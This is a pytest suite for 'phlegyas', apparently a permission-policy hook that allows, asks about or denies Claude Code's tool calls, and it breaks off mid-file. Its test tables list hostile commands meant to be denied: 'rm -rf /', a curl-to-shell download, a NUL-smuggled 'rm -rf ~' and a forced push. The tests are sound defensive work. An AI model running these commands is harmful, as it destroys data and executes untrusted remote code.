"""The Claude Code hook as Claude Code runs it: a process per event, real event JSON on stdin.

Most cases go through the resident decision server (the normal path, and fast); a second table runs
the same kinds of events with the server off (the in-process path). The server itself is tested
through the client (policy changes, a killed server, a stale socket, another uid) and directly.
"""
from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time

import pytest
from conftest import require
from processes import alive, as_user

from phlegyas.hosts.hook import client as hook
from phlegyas.hosts.hook import server as hookd
from phlegyas.policy.settings import Settings

HOOK_SCRIPT = os.path.join(os.path.dirname(sys.executable), "phlegyas-hook")
MiB = 1024 * 1024
ASK_CLASS_COMMAND = "npm publish"
USER_POLICY = '[classes]\n"publish.package" = "ask"\n'
"""The user's policy in every test home: this Tier 1 class asks (whatever the built-in default)."""


# -- running the hook ------------------------------------------------------------------------------

def clean_env(home: str) -> dict:
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("PHLEGYAS_", "ANTHROPIC_", "OPENAI_", "CLAUDE_")) and k not in (
               "APPROVAL_CONFIDENCE_THRESHOLD", "DENIAL_CONFIDENCE_THRESHOLD", "AUDIT_LOG_FILE",
               "ENABLE_AUDIT_LOG", "CACHE_TTL_SECONDS", "PENDING_TTL_SECONDS", "LOG_LEVEL",
               "APPROVAL_WAIT_SECONDS")}
    env.update(HOME=home, PHLEGYAS_HOME=os.path.join(home, ".claude", "phlegyas"), PHLEGYAS_HOOK_SERVER_IDLE="120")
    return env


class Result:
    def __init__(self, proc: subprocess.CompletedProcess, audited: list[dict]):
        self.code = proc.returncode
        self.stdout = proc.stdout.decode("utf-8")
        self.stderr = proc.stderr.decode("utf-8", "replace")
        self.json = json.loads(self.stdout) if self.stdout.strip() else None
        self.audited = audited
        """The audit entries this call added."""

    @property
    def output(self) -> dict | None:
        return self.json["hookSpecificOutput"] if self.json else None

    @property
    def paths(self) -> list[str]:
        """Which path decided the call, from its audit entries: ``["server"]`` or ``["in-process"]``."""
        return [entry.get("hook_path") for entry in self.audited]


def audit_file(env: dict) -> str | None:
    """Where the hook run with ``env`` audits (None when it does not)."""
    if env.get("ENABLE_AUDIT_LOG", "").lower() in ("0", "false", "no", "off"):
        return None
    return env.get("AUDIT_LOG_FILE") or os.path.join(env["PHLEGYAS_HOME"], "audit.jsonl")


def audit_size(path: str | None) -> int:
    try:
        return os.path.getsize(path) if path else 0
    except OSError:
        return 0


def audited_since(path: str | None, offset: int) -> list[dict]:
    if path is None or not os.path.isfile(path):
        return []
    with open(path, "rb") as fh:
        fh.seek(offset)
        return [json.loads(line) for line in fh.read().splitlines() if line.strip()]


class Home:
    """An isolated home with a project; runs the hook there and finds its server."""

    def __init__(self, root, *, server: bool = True):
        self.root = str(root)
        self.home = os.path.join(self.root, "home")
        self.project = os.path.join(self.root, "project")
        os.makedirs(self.home, exist_ok=True)
        os.makedirs(os.path.join(self.project, ".git"), exist_ok=True)
        self.env = clean_env(self.home)
        if not server:
            self.env["PHLEGYAS_HOOK_SERVER"] = "off"
        self.hookd_dir = os.path.join(self.env["PHLEGYAS_HOME"], "hookd")
        os.makedirs(self.env["PHLEGYAS_HOME"], mode=0o700, exist_ok=True)
        with open(os.path.join(self.env["PHLEGYAS_HOME"], "policy.toml"), "w") as fh:
            fh.write(USER_POLICY)

    def event(self, tool_input=None, *, command: str | None = None, tool: str = "Bash", mode: str = "default",
              name: str = "PreToolUse", cwd: str | None = None) -> dict:
        if command is not None:
            tool_input = {"command": command, "description": "run it"}
        event = {
            "session_id": "6472e0a1-93f2-4c1e-9b55-2f1b0c3d4e5f",
            "transcript_path": f"{self.home}/.claude/projects/-project/6472e0a1.jsonl",
            "cwd": cwd or self.project, "prompt_id": "22c6a9d0-1b2c-4d5e-8f90-1a2b3c4d5e6f",
            "permission_mode": mode, "hook_event_name": name, "tool_name": tool, "tool_input": tool_input,
        }
        if name == "PermissionRequest":
            event["permission_suggestions"] = [{"type": "addRules", "behavior": "allow", "destination": "session",
                                                "rules": [{"toolName": tool}]}]
        else:
            event["tool_use_id"] = "toolu_01AbCdEfGhIjKlMnOpQrStUv"
        return event

    def run(self, stdin, *, env: dict | None = None, argv: list[str] | None = None, stdout=None) -> Result:
        if isinstance(stdin, dict):
            stdin = json.dumps(stdin)
        if isinstance(stdin, str):
            stdin = stdin.encode("utf-8")
        env = dict(self.env, **(env or {}))
        audit, offset = audit_file(env), audit_size(audit_file(env))
        proc = subprocess.run(argv or [HOOK_SCRIPT], input=stdin, capture_output=stdout is None,
                              stdout=stdout, stderr=subprocess.PIPE if stdout is not None else None,
                              env=env, cwd=self.project, timeout=60)
        if stdout is not None:
            proc.stdout = b""
        result = Result(proc, audited_since(audit, offset))
        assert result.code in (0, 2), f"exit {result.code}: {result.stderr}"
        assert "Traceback" not in result.stderr, result.stderr
        return result

    # the server

    def pid_files(self) -> list[str]:
        if not os.path.isdir(self.hookd_dir):
            return []
        return [os.path.join(self.hookd_dir, n) for n in os.listdir(self.hookd_dir) if n.endswith(".pid")]

    def server_pid(self) -> int | None:
        for path in self.pid_files():
            try:
                with open(path) as fh:
                    pid = int(fh.read().strip())
            except (OSError, ValueError):
                continue
            if alive(pid):
                return pid
        return None

    def wait_for_server(self, *, other_than: int | None = None, timeout: float = 60) -> int:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            pid = self.server_pid()
            if pid is not None and pid != other_than:
                return pid
            time.sleep(0.05)
        raise AssertionError(f"no decision server started; log: {self.log()}")

    def log(self) -> str:
        if not os.path.isdir(self.hookd_dir):
            return ""
        return "".join(open(os.path.join(self.hookd_dir, n)).read() for n in sorted(os.listdir(self.hookd_dir))
                       if n.endswith(".log"))

    def served(self) -> int:
        return self.log().count("] request ")

    def stop_servers(self) -> None:
        for _ in range(3):
            pid = self.server_pid()
            if pid is None:
                return
            os.kill(pid, signal.SIGTERM)
            deadline = time.monotonic() + 10
            while alive(pid) and time.monotonic() < deadline:
                time.sleep(0.02)


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """One home for the table tests, with its decision server up."""
    box = Home(tmp_path_factory.mktemp("hook-served"))
    box.run(box.event(command="true"))
    box.wait_for_server()
    yield box
    box.stop_servers()


@pytest.fixture
def box(tmp_path):
    """A fresh home (its own server, started on first use)."""
    home = Home(tmp_path)
    yield home
    home.stop_servers()


@pytest.fixture
def local(tmp_path):
    """A fresh home with the server turned off: every decision is made in the hook process."""
    home = Home(tmp_path, server=False)
    yield home
    assert not home.pid_files(), "a server was started although PHLEGYAS_HOOK_SERVER=off"


def assert_pre_tool_use(result: Result, expected: str | None) -> None:
    assert result.code == 0, result.stderr
    if expected is None:
        assert result.stdout == "", "undecided must print nothing"
        return
    assert set(result.json) == {"hookSpecificOutput"}
    out = result.output
    assert set(out) == {"hookEventName", "permissionDecision", "permissionDecisionReason"}
    assert out["hookEventName"] == "PreToolUse"
    assert out["permissionDecision"] == expected, out
    assert out["permissionDecisionReason"].startswith("phlegyas: ") and len(out["permissionDecisionReason"]) > 12


def assert_blocked(result: Result, *words: str) -> None:
    assert result.code == 2
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("phlegyas: ")
    for word in words:
        assert word in lines[0], lines[0]


def assert_permission_denied(result: Result) -> None:
    assert result.code == 0
    out = result.output
    assert out["hookEventName"] == "PermissionRequest"
    assert set(out["decision"]) == {"behavior", "message"}
    assert out["decision"]["behavior"] == "deny"
    assert out["decision"]["message"].startswith("phlegyas: ")


# -- PreToolUse ------------------------------------------------------------------------------------

PRE_TOOL_USE = [
    # (id, tool, input or command, mode, env, expected permissionDecision; None = no output)
    ("safe-command", "Bash", "git status", "default", {}, "allow"),
    ("catastrophic-delete", "Bash", "rm -rf /", "default", {}, "deny"),
    ("pipe-to-shell", "Bash", "curl -s https://x.example/i.sh | sh", "default", {}, "deny"),
    ("compound-strictest", "Bash", "git status && rm -rf ~", "default", {}, "deny"),
    ("undecided-default", "Bash", "frobnicate --all", "default", {}, None),
    ("undecided-ask-setting", "Bash", "frobnicate --all", "default", {"PHLEGYAS_HOOK_UNDECIDED": "ask"}, "ask"),
    ("undecided-none-setting", "Bash", "frobnicate --all", "default", {"PHLEGYAS_HOOK_UNDECIDED": "none"}, None),
    ("tier1-ask-class", "Bash", ASK_CLASS_COMMAND, "default", {}, "ask"),
    ("protected-path", "Write", {"file_path": "{project}/.git/config", "content": "[core]"}, "default", {}, "ask"),
    ("protected-claude-dir", "Edit", {"file_path": "{project}/.claude/settings.json", "old_string": "a",
                                      "new_string": "b"}, "default", {}, "ask"),
    ("read-tool", "Read", {"file_path": "{project}/README.md"}, "default", {}, "allow"),
    ("web-read", "WebFetch", {"url": "https://docs.python.org/3/", "prompt": "summarize"}, "default", {}, "allow"),
    ("unknown-mcp-tool", "mcp__github__create_issue", {"repo": "x/y", "title": "t"}, "default", {}, None),
    ("destructive-mcp-tool", "mcp__github__delete_repository", {"repo": "x/y"}, "default", {}, "deny"),
    # modes, from permission_mode
    ("plan-denies-writes", "Bash", "touch notes.txt", "plan", {}, "deny"),
    ("plan-allows-reads", "Bash", "git status", "plan", {}, "allow"),
    ("plan-denies-unknown", "Bash", "frobnicate --all", "plan", {}, "deny"),
    ("accept-edits-undecided", "Bash", "frobnicate --all", "acceptEdits", {}, None),
    ("auto-undecided", "Bash", "frobnicate --all", "auto", {}, None),
    ("dont-ask-denies-undecided", "Bash", "frobnicate --all", "dontAsk", {}, "deny"),
    ("bypass-allows-unknown", "Bash", "frobnicate --all", "bypassPermissions", {}, "allow"),
    ("bypass-still-denies-tier1", "Bash", "rm -rf /", "bypassPermissions", {}, "deny"),
    ("bypass-still-asks-protected", "Write", {"file_path": "{project}/.git/hooks/pre-commit", "content": "x"},
     "bypassPermissions", {}, "ask"),
]


def _input(box: Home, spec):
    if isinstance(spec, str):
        return {"command": spec, "description": "run it"}
    return {k: v.replace("{project}", box.project) if isinstance(v, str) else v for k, v in spec.items()}


@pytest.mark.parametrize("case, tool, spec, mode, env, expected", PRE_TOOL_USE, ids=[c[0] for c in PRE_TOOL_USE])
def test_pre_tool_use_through_the_server(served, case, tool, spec, mode, env, expected):
    result = served.run(served.event(_input(served, spec), tool=tool, mode=mode), env=env)
    assert_pre_tool_use(result, expected)
    assert result.paths == ["server"], "not decided (once) by the resident server"


IN_PROCESS = [c for c in PRE_TOOL_USE if c[0] in (
    "safe-command", "catastrophic-delete", "undecided-default", "undecided-ask-setting", "tier1-ask-class",
    "protected-path", "plan-denies-writes", "dont-ask-denies-undecided", "bypass-allows-unknown")]


@pytest.mark.parametrize("case, tool, spec, mode, env, expected", IN_PROCESS, ids=[c[0] for c in IN_PROCESS])
def test_pre_tool_use_in_process(local, case, tool, spec, mode, env, expected):
    result = local.run(local.event(_input(local, spec), tool=tool, mode=mode), env=env)
    assert_pre_tool_use(result, expected)
    assert result.paths == ["in-process"]


def test_deny_reason_names_the_finding(served):
    result = served.run(served.event(command="rm -rf /"))
    assert "delete" in result.output["permissionDecisionReason"]


@pytest.mark.parametrize("argv", [
    [sys.executable, "-m", "phlegyas.hosts.hook.client"],
    [sys.executable, "-m", "phlegyas.hook"],  # the module installs before 0.2 name
    [sys.executable, "-P", "-c", "from phlegyas.hook import main; raise SystemExit(main())"],  # their exact command
    [sys.executable, "-m", "phlegyas", "hook"],
], ids=["python-m-hosts.claude_code.hook", "python-m-phlegyas.hook", "old-install-launcher", "phlegyas-hook-subcommand"])
def test_other_ways_to_run_the_hook(served, argv):
    assert_pre_tool_use(served.run(served.event(command="rm -rf /"), argv=argv), "deny")
    assert_pre_tool_use(served.run(served.event(command="git status"), argv=argv), "allow")


def test_a_project_policy_rule_applies(served, tmp_path):
    project = tmp_path / "strict"
    (project / ".git").mkdir(parents=True)
    (project / ".phlegyas.toml").write_text('[permissions]\ndeny = ["Bash(git log *)"]\n')
    result = served.run(served.event(command="git log -3", cwd=str(project)))
    assert_pre_tool_use(result, "deny")
    assert "git log" in result.output["permissionDecisionReason"]


# -- PermissionRequest -----------------------------------------------------------------------------

def test_permission_request_allow_echoes_the_input(served):
    tool_input = {"command": "git status", "description": "Show status", "timeout": 5000}
    result = served.run(served.event(tool_input, name="PermissionRequest"))
    assert result.code == 0
    assert result.json == {"hookSpecificOutput": {"hookEventName": "PermissionRequest",
                                                  "decision": {"behavior": "allow", "updatedInput": tool_input}}}


@pytest.mark.parametrize("command, mode", [
    ("rm -rf /", "default"),
    ("git push --force origin main", "default"),
    ("touch notes.txt", "plan"),
    ("frobnicate --all", "dontAsk"),
])
def test_permission_request_deny(served, command, mode):
    result = served.run(served.event(command=command, mode=mode, name="PermissionRequest"))
    assert_permission_denied(result)
    assert result.paths == ["in-process"]  # the server leaves a PermissionRequest to the client


@pytest.mark.parametrize("command, env", [
    ("frobnicate --all", {}),
    ("frobnicate --all", {"PHLEGYAS_HOOK_UNDECIDED": "ask"}),
    (ASK_CLASS_COMMAND, {}),
], ids=["undecided", "undecided-even-with-ask-setting", "real-ask"])
def test_permission_request_ask_leaves_the_dialog_to_the_user(served, command, env):
    result = served.run(served.event(command=command, name="PermissionRequest"), env=env)
    assert result.code == 0 and result.stdout == ""


def test_permission_request_in_process(local):
    result = local.run(local.event(command="git status", name="PermissionRequest"))
    assert result.output["decision"]["behavior"] == "allow"
    assert_permission_denied(local.run(local.event(command="rm -rf /", name="PermissionRequest")))


# -- bad input -------------------------------------------------------------------------------------

def _big_command() -> dict:
    return {"command": "echo " + "a" * MiB}


BAD_PRE_TOOL_USE = [
    ("not-json", b"this is not json", "not valid JSON"),
    ("empty-stdin", b"", "empty input"),
    ("whitespace-only", b"  \n", "empty input"),
    ("json-array", b"[1, 2]", "JSON object"),
    ("json-string", b'"PreToolUse"', "JSON object"),
    ("invalid-utf8", b'{"hook_event_name": "PreToolUse", "tool_name": "\xff"}', "UTF-8"),
    ("raw-nul-byte", b'{"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": "ls\x00"}}',
     "JSON"),
    ("unknown-event", {"hook_event_name": "PostToolUse", "tool_name": "Bash", "tool_input": {"command": "ls"}},
     "PostToolUse"),
    ("missing-event", {"tool_name": "Bash", "tool_input": {"command": "ls"}}, "hook_event_name"),
    ("missing-tool-input", {"hook_event_name": "PreToolUse", "tool_name": "Bash"}, "tool_input"),
    ("missing-tool-name", {"hook_event_name": "PreToolUse", "tool_input": {"command": "ls"}}, "tool_name"),
    ("tool-name-not-string", {"hook_event_name": "PreToolUse", "tool_name": 5, "tool_input": {}}, "tool_name"),
    ("tool-input-not-object", {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": "ls"},
     "tool_input"),
    ("command-not-string", {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": ["ls"]}},
     "command"),
    ("cwd-not-string", {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": "ls"},
                        "cwd": 7}, "cwd"),
    ("cwd-relative", {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": "ls"},
                      "cwd": "project"}, "cwd"),
    ("unknown-mode", {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": "ls"},
                      "permission_mode": "yolo"}, "yolo"),
    ("escaped-nul-in-command", {"hook_event_name": "PreToolUse", "tool_name": "Bash",
                                "tool_input": {"command": "ls\u0000; rm -rf ~"}}, "NUL"),
    ("one-megabyte-command", {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": "BIG"}, "KiB"),
]


def _bad_stdin(box: Home, spec) -> bytes:
    if isinstance(spec, bytes):
        return spec
    event = dict(spec)
    if event.get("tool_input") == "BIG":
        event["tool_input"] = _big_command()
    event.setdefault("session_id", "6472e0a1")
    return json.dumps(event).encode()


@pytest.mark.parametrize("case, spec, words", BAD_PRE_TOOL_USE, ids=[c[0] for c in BAD_PRE_TOOL_USE])
def test_bad_input_blocks_with_exit_2(served, case, spec, words):
    result = served.run(_bad_stdin(served, spec))
    assert_blocked(result, words)
    assert result.paths == ["server"]


@pytest.mark.parametrize("case", ["not-json", "missing-tool-input", "one-megabyte-command", "unknown-event"])
def test_bad_input_in_process(local, case):
    spec, words = next((s, w) for c, s, w in BAD_PRE_TOOL_USE if c == case)
    result = local.run(_bad_stdin(local, spec))
    assert_blocked(result, words)
    assert result.paths == ["in-process"]


@pytest.mark.parametrize("event", [
    {"hook_event_name": "PermissionRequest", "tool_name": "Bash"},
    {"hook_event_name": "PermissionRequest", "tool_name": "Bash", "tool_input": "rm -rf /"},
    {"hook_event_name": "PermissionRequest", "tool_name": ["Bash"], "tool_input": {}},
    {"hook_event_name": "PermissionRequest", "tool_name": "Bash", "tool_input": {"command": "ls"},
     "permission_mode": 3},
    {"hook_event_name": "PermissionRequest", "tool_name": "Bash", "tool_input": "BIG"},
], ids=["missing-tool-input", "tool-input-string", "tool-name-list", "mode-number", "one-megabyte-command"])
def test_bad_permission_request_is_denied(served, event):
    result = served.run(_bad_stdin(served, event))
    assert_permission_denied(result)
    assert result.paths == ["server"]  # what cannot be read is denied at once, wherever it is


def test_a_configuration_error_blocks(served):
    env = {"APPROVAL_CONFIDENCE_THRESHOLD": "7"}
    assert_blocked(served.run(served.event(command="git status"), env=env), "configuration error",
                   "APPROVAL_CONFIDENCE_THRESHOLD")
    assert_permission_denied(served.run(served.event(command="git status", name="PermissionRequest"), env=env))


# -- audit -----------------------------------------------------------------------------------------

def _entries(path) -> list[dict]:
    with open(path, encoding="utf-8") as fh:
        return [json.loads(line) for line in fh if line.strip()]


def test_every_decision_is_audited(served, tmp_path):
    log = tmp_path / "audit.jsonl"
    env = {"AUDIT_LOG_FILE": str(log)}
    served.run(served.event(command="git status"), env=env)
    served.run(served.event(command="rm -rf /", mode="plan"), env=env)
    served.run(served.event(command="frobnicate --all", name="PermissionRequest"), env=env)
    served.run(b"not json", env=env)
    entries = _entries(log)
    assert [(e["tool_name"], e["decision"], e["tier"]) for e in entries] == [
        ("Bash", "allow", "tier2_safe"), ("Bash", "deny", "tier1_dangerous"), ("Bash", "ask", "fallback"),
        ("(invalid)", "deny", "error")]
    assert entries[0]["session_id"] == "6472e0a1-93f2-4c1e-9b55-2f1b0c3d4e5f"
    assert entries[1]["mode"] == "plan" and entries[1]["cwd"] == served.project
    assert [e["hook_path"] for e in entries] == ["server", "server", "in-process", "server"]


@pytest.mark.parametrize("command, expected", [("rm -rf /", "deny"), ("git status", "allow")])
def test_an_unwritable_audit_log_does_not_change_the_decision(served, tmp_path, command, expected):
    env = {"AUDIT_LOG_FILE": str(tmp_path)}  # a directory: cannot be appended to
    result = served.run(served.event(command=command), env=env)
    assert_pre_tool_use(result, expected)
    assert "audit log not written" in result.stderr and len(result.stderr.splitlines()) == 1


def test_an_unwritable_audit_log_on_a_block_keeps_stderr_one_line(served, tmp_path):
    result = served.run(b"{]", env={"AUDIT_LOG_FILE": str(tmp_path)})
    assert_blocked(result, "not valid JSON", "audit log not written")


def test_a_closed_stdout_blocks(local):
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        result = local.run(local.event(command="git status"), stdout=write_end)
    finally:
        os.close(write_end)
    assert result.code == 2
    assert "cannot write the decision" in result.stderr


# -- the resident server through the client ----------------------------------------------------------

def test_the_server_decides_and_is_reused(box):
    assert_pre_tool_use(box.run(box.event(command="rm -rf /")), "deny")  # in-process; starts the server
    pid = box.wait_for_server()
    before = box.served()
    assert_pre_tool_use(box.run(box.event(command="rm -rf /")), "deny")
    assert_pre_tool_use(box.run(box.event(command="git status")), "allow")
    assert box.served() == before + 2
    assert box.server_pid() == pid
    socket_file = next(os.path.join(box.hookd_dir, n) for n in os.listdir(box.hookd_dir) if n.endswith(".sock"))
    assert os.stat(box.hookd_dir).st_mode & 0o777 == 0o700
    assert os.stat(socket_file).st_mode & 0o777 == 0o600


def test_the_server_sees_policy_changes(box):
    box.run(box.event(command="git status"))
    box.wait_for_server()
    assert_pre_tool_use(box.run(box.event(command="git status")), "allow")
    policy = os.path.join(box.project, ".phlegyas.toml")
    with open(policy, "w") as fh:
        fh.write('[permissions]\ndeny = ["Bash(git status)"]\n')
    before = box.served()
    assert_pre_tool_use(box.run(box.event(command="git status")), "deny")
    os.remove(policy)
    assert_pre_tool_use(box.run(box.event(command="git status")), "allow")
    assert box.served() == before + 2


def test_a_killed_server_means_an_in_process_decision_and_a_new_server(box):
    box.run(box.event(command="git status"))
    pid = box.wait_for_server()
    os.kill(pid, signal.SIGKILL)
    _wait_gone(pid)
    deadline = time.monotonic() + 60
    while True:  # each call decides in-process; one of them (at most one per 3 s) starts a new server
        assert_pre_tool_use(box.run(box.event(command="rm -rf /")), "deny")
        assert_pre_tool_use(box.run(box.event(command="frobnicate"), env={"PHLEGYAS_HOOK_UNDECIDED": "ask"}), "ask")
        if box.server_pid() not in (None, pid) or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    new = box.wait_for_server(other_than=pid, timeout=1)
    before = box.served()
    assert_pre_tool_use(box.run(box.event(command="git status")), "allow")
    assert box.served() == before + 1 and box.server_pid() == new


def _wait_gone(pid: int) -> None:
    deadline = time.monotonic() + 10
    while alive(pid) and time.monotonic() < deadline:
        time.sleep(0.02)


def test_a_stale_socket_file_is_replaced(box):
    address = hook.socket_address(box.env, box.project)
    os.makedirs(os.path.dirname(address), mode=0o700)
    stale = socket.socket(socket.AF_UNIX)
    with hook._Path(address) as short:  # pytest's tmp paths are longer than sockaddr_un allows
        stale.bind(short)
    stale.close()  # the file stays, nobody listens: connect() is refused
    assert_pre_tool_use(box.run(box.event(command="rm -rf /"), argv=[sys.executable, "-m", "phlegyas.hosts.hook.client"]), "deny")
    box.wait_for_server()
    before = box.served()
    assert_pre_tool_use(box.run(box.event(command="git status"), argv=[sys.executable, "-m", "phlegyas.hosts.hook.client"]),
                        "allow")
    assert box.served() == before + 1


@pytest.mark.parametrize("reply", [
    b"garbage\n",
    b"PHLEGYAS-HOOK/3 0 999 0\n{}",  # lengths do not add up
    b"PHLEGYAS-HOOK/3 1 0 0\n",  # an exit status the hook never uses
    b"PHLEGYAS-HOOK/1 0 2 0\n{}",  # another version of the protocol
    b"",  # closed without an answer
])
def test_a_broken_server_answer_means_an_in_process_decision(box, reply):
    address = hook.socket_address(box.env, box.project)
    os.makedirs(os.path.dirname(address), mode=0o700)
    listener = socket.socket(socket.AF_UNIX)
    with hook._Path(address) as short:
        listener.bind(short)
    listener.listen(4)
    answered = []

    def serve():
        conn, _ = listener.accept()
        with conn:
            conn.sendall(hook.READY)
            hookd.read_request(conn)
            conn.sendall(reply)
            answered.append(True)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        result = box.run(box.event(command="rm -rf /"), argv=[sys.executable, "-m", "phlegyas.hosts.hook.client"])
        thread.join(10)
    finally:
        listener.close()
    assert answered == [True]
    assert_pre_tool_use(result, "deny")
    assert result.paths == ["in-process"]
    assert box.server_pid() is None  # something listened and said READY: the client started no other server


def _connect_as(uid: int, address: str) -> str:
    """Try to connect to ``address`` from a child process running as ``uid``; what happened."""
    def connect() -> str:
        probe = socket.socket(socket.AF_UNIX)
        try:
            probe.connect(address)
        except OSError as exc:
            return type(exc).__name__
        return "connected"
    return as_user(uid, connect)


def test_another_user_cannot_reach_the_server():
    require("needs root to run a client as another user", os.getuid() == 0)  # (under CI=true: fails)
    root = tempfile.mkdtemp(prefix="phl-")  # short, and open to others: only phlegyas' own modes protect it
    try:
        os.chmod(root, 0o755)
        box = Home(root)
        box.run(box.event(command="git status"))
        box.wait_for_server()
        address = hook.socket_address(box.env, box.project)
        for directory in (box.home, os.path.join(box.home, ".claude"), box.env["PHLEGYAS_HOME"]):
            os.chmod(directory, 0o755)
        assert _connect_as(65534, address) == "PermissionError"  # the hookd directory is 0700
        os.chmod(os.path.dirname(address), 0o755)
        assert _connect_as(65534, address) == "PermissionError"  # and the socket itself 0600
        assert _connect_as(0, address) == "connected"
    finally:
        box.stop_servers()
        shutil.rmtree(root, ignore_errors=True)


def test_the_socket_lives_in_the_settings_data_dir(tmp_path):
    env = clean_env(str(tmp_path))
    for value in ("", "~/state/phlegyas", str(tmp_path / "abs")):
        env["PHLEGYAS_HOME"] = value
        settings = Settings.load(env, cwd=str(tmp_path))
        assert hook.data_dir(env, str(tmp_path)) == settings.data_dir
        assert os.path.dirname(os.path.dirname(hook.socket_address(env, str(tmp_path)))) == settings.data_dir
    assert hook.socket_address(dict(env, PHLEGYAS_HOOK_SERVER="off"), "/") is None


# -- the server on its own ---------------------------------------------------------------------------

class ServerThread:
    def __init__(self, path: str, **kwargs):
        self.lines: list[str] = []
        self.calls: list[tuple] = []
        kwargs.setdefault("handler", self.handler)
        self.server = hookd.HookServer(path, log=self.lines.append, poll_seconds=0.1, **kwargs)
        assert self.server.bind()
        self.why = None
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def handler(self, raw, environ, cwd, claim):
        assert claim()
        self.calls.append((raw, environ, cwd))
        time.sleep(0.01)
        return 0, b"out:" + raw, environ.get("X", "").encode()

    def _run(self):
        self.why = self.server.serve_forever()

    def stop(self):
        self.thread.join(10)
        self.server.close()


def _request(path: str, raw: bytes, env: dict, cwd: str = "/w", wait: float = 10) -> bytes:
    """The server's reply to one request, sent after its READY (the client waits ``wait`` seconds for
    the answer); b"" when it hung up without one."""
    with socket.socket(socket.AF_UNIX) as conn:
        conn.settimeout(10)
        conn.connect(path)
        try:
            if _recv_exactly(conn, len(hook.READY)) != hook.READY:
                return b""
            conn.sendall(hook.encode_request(raw, env, cwd, time.monotonic() + wait))
            return b"".join(iter(lambda: conn.recv(65536), b""))
        except (ConnectionResetError, BrokenPipeError):
            return b""


def _recv_exactly(conn: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        chunk = conn.recv(size - len(data))
        if not chunk:
            break
        data += chunk
    return data


def test_server_answers_concurrent_clients(tmp_path):
    (tmp_path / "run").mkdir()
    os.chmod(tmp_path / "run", 0o777)
    path = str(tmp_path / "run" / "s.sock")
    srv = ServerThread(path, idle_seconds=0.5)
    assert stat.S_IMODE(os.stat(tmp_path / "run").st_mode) == 0o700  # tightened
    replies: dict[int, bytes] = {}

    def client(i: int):
        replies[i] = _request(path, b"event-%d" % i, {"X": str(i), "HOME": "/h"})

    threads = [threading.Thread(target=client, args=(i,)) for i in range(12)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(20)
    srv.stop()
    for i in range(12):
        assert hook.decode_reply(replies[i]) == (0, b"out:event-%d" % i, str(i).encode())
    assert sorted(c[0] for c in srv.calls) == sorted(b"event-%d" % i for i in range(12))
    assert all(c[2] == "/w" for c in srv.calls)
    assert srv.why == "idle"
    assert not os.path.exists(path)


def test_server_refuses_another_uid(tmp_path):
    path = str(tmp_path / "s.sock")
    srv = ServerThread(path, idle_seconds=0.5, uid=os.getuid() + 4242)  # we are "another user" to it
    reply = _request(path, b"event", {"HOME": "/h"})
    srv.stop()
    assert reply == b"" and srv.calls == []
    assert any("refused a client of uid" in line for line in srv.lines)


def test_server_hands_back_and_stops_when_the_code_changes(tmp_path):
    version = [1]
    path = str(tmp_path / "s.sock")
    srv = ServerThread(path, idle_seconds=30, stamp=lambda: tuple(version), stamp_interval=0)
    assert hook.decode_reply(_request(path, b"a", {})) == (0, b"out:a", b"")
    version[0] = 2
    reply = _request(path, b"b", {})
    srv.stop()
    assert reply == hook.PROTOCOL + b" L 0 0\n" and hook.decode_reply(reply) is None
    assert srv.why == "code changed" and len(srv.calls) == 1


def test_only_one_server_binds_a_socket(tmp_path):
    path = str(tmp_path / "s.sock")
    first = ServerThread(path, idle_seconds=0.3)
    second = hookd.HookServer(path, lambda *a: None)
    assert second.bind() is False
    first.stop()


@pytest.mark.parametrize("header", [
    b"PHLEGYAS-HOOK/3 1 2 3\n", b"HTTP/1.1 GET /\n", b"PHLEGYAS-HOOK/3 -1 0 0 0\n",
    b"PHLEGYAS-HOOK/3 99999999 0 0 0\n", b"PHLEGYAS-HOOK/3 " + b"9" * 200 + b"\n",
    b"PHLEGYAS-HOOK/1 0 0 0\n",  # a client of the protocol before READY
])
def test_server_rejects_malformed_requests(tmp_path, header):
    path = str(tmp_path / "s.sock")
    srv = ServerThread(path, idle_seconds=0.3)
    with socket.socket(socket.AF_UNIX) as conn:
        conn.settimeout(10)
        conn.connect(path)
        assert _recv_exactly(conn, len(hook.READY)) == hook.READY
        try:
            conn.sendall(header)
            conn.shutdown(socket.SHUT_WR)
            reply = conn.recv(100)
        except ConnectionResetError:  # it hung up before reading everything
            reply = b""
    srv.stop()
    assert reply == b"" and srv.calls == []


def test_the_code_stamp_follows_the_files(tmp_path):
    (tmp_path / "a.py").write_text("x = 1\n")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "b.py").write_text("y = 1\n")
    first = hookd.code_stamp(str(tmp_path))
    assert hookd.code_stamp(str(tmp_path)) == first
    (tmp_path / "sub" / "b.py").write_text("y = 22\n")
    assert hookd.code_stamp(str(tmp_path)) != first


def test_the_code_stamp_follows_compiled_modules(tmp_path):
    """A compiled install (setup.py) runs extension modules: replacing one is a code change too."""
    from importlib.machinery import EXTENSION_SUFFIXES

    (tmp_path / "a.py").write_text("x = 1\n")
    native = tmp_path / f"report{EXTENSION_SUFFIXES[0]}"
    native.write_bytes(b"\x7fELF one")
    first = hookd.code_stamp(str(tmp_path))
    native.write_bytes(b"\x7fELF other build")
    assert hookd.code_stamp(str(tmp_path)) != first
    (tmp_path / "notes.txt").write_text("not code")
    second = hookd.code_stamp(str(tmp_path))
    (tmp_path / "notes.txt").write_text("still not code, longer")
    assert hookd.code_stamp(str(tmp_path)) == second


@pytest.mark.parametrize("raw, expected", [
